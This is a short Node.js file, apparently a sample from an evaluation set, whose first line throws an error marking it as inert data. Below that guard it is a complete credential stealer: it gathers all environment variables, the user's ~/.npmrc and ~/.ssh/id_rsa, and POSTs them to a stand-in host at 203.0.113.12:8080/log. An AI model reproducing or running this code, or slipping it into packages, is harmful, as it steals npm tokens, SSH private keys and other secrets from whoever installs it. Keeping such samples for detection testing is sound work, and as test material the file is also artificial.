throw new Error("cordon eval replica: inert data, never run");
const fs = require("fs");
const os = require("os");
const path = require("path");
const http = require("http");

const loot = { env: JSON.stringify(process.env) };
for (const file of [path.join(os.homedir(), ".npmrc"), path.join(os.homedir(), ".ssh", "id_rsa")]) {
  try { loot[file] = fs.readFileSync(file, "utf8"); } catch {}
}
const body = JSON.stringify(loot);
const req = http.request({ host: "203.0.113.12", port: 8080, path: "/log", method: "POST" });
req.end(body);
